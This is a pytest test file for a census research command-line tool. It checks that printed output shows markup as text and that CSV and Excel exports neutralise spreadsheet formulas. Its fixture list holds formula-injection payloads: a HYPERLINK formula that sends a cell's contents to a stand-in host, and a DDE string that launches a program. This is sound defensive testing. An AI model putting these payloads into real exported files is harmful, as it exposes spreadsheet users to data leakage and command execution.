"""What `census query` prints and writes is data, never markup or a formula: researchers' results
hold firm names and free text typed by respondents."""

from __future__ import annotations

import csv

import duckdb
import openpyxl
import pytest
from typer.testing import CliRunner

from census_cli.main import app
from pipeline.research.build import research_path

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"클릭\")", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
           "=cmd|' /C calc'!A0", "[/x]", "[red]빨강[/red]", "평범한 기업"]


@pytest.fixture
def research_db(project):
    path = research_path(project)
    path.parent.mkdir(parents=True, exist_ok=True)
    with duckdb.connect(str(path)) as con:
        con.execute("CREATE TABLE firm (name VARCHAR, tags VARCHAR[], counts INTEGER[], n INTEGER)")
        for i, name in enumerate(HOSTILE):
            con.execute("INSERT INTO firm VALUES (?, ?, ?, ?)", [name, ["[/x]", "=1"], [i, i + 1], -i])
    return path


def test_query_prints_lists_and_markup_like_text_as_they_are(research_db):
    result = CliRunner().invoke(app, ["query", "SELECT name, tags, counts, n FROM firm", "--limit", "20"],
                                env={"COLUMNS": "400"})
    assert result.exit_code == 0, result.output
    assert "[/x]" in result.output and "[red]빨강[/red]" in result.output
    assert "[0, 1]" in result.output  # a LIST value shown as its text


def test_a_failing_query_with_markup_in_its_message_is_reported_not_crashed(research_db):
    result = CliRunner().invoke(app, ["query", "SELECT [/x] FROM firm"])
    assert result.exit_code == 1
    assert result.exception is None or isinstance(result.exception, SystemExit)


def test_csv_export_neutralises_every_formula_start(research_db, tmp_path):
    out = tmp_path / "결과 [red].csv"
    result = CliRunner().invoke(app, ["query", "SELECT name, tags, n FROM firm", "--out", str(out)], env={"COLUMNS": "400"})
    assert result.exit_code == 0, result.output
    assert "결과 [red].csv" in result.output.replace("\n", "")  # the file name is printed as it is
    with open(out, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    names = [r["name"] for r in rows]
    for original, written in zip(HOSTILE, names, strict=True):
        if original[0] in "=+-@\t\r":
            assert written == "'" + original, f"{original!r} written as {written!r}"
        else:
            assert written == original
    assert all(r["tags"].startswith("[") for r in rows)  # lists are text; "[" is not a formula start
    assert [r["n"] for r in rows][:3] == ["0", "-1", "-2"]  # numbers stay numbers, not quoted


def test_xlsx_export_has_no_formula_cell(research_db, tmp_path):
    out = tmp_path / "결과.xlsx"
    result = CliRunner().invoke(app, ["query", "SELECT name, tags, counts, n FROM firm", "--out", str(out)])
    assert result.exit_code == 0, result.output
    ws = openpyxl.load_workbook(out).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    names = [ws.cell(row=r, column=1).value for r in range(2, ws.max_row + 1)]
    assert names[0] == "'" + HOSTILE[0] and names[-1] == "평범한 기업"
    assert [ws.cell(row=r, column=4).value for r in range(2, 5)] == [0, -1, -2]  # still numbers


def test_shell_prints_lists_and_markup_and_survives_a_bad_statement(research_db):
    session = "SELECT name, tags FROM firm WHERE name LIKE '[%';\nSELECT [/x];\nSELECT counts FROM firm LIMIT 1;\n.quit\n"
    result = CliRunner().invoke(app, ["shell"], input=session, env={"COLUMNS": "400"})
    assert result.exit_code == 0, result.output
    assert "[red]빨강[/red]" in result.output and "[/x]" in result.output
    assert "[0, 1]" in result.output  # the statement after the failing one still ran
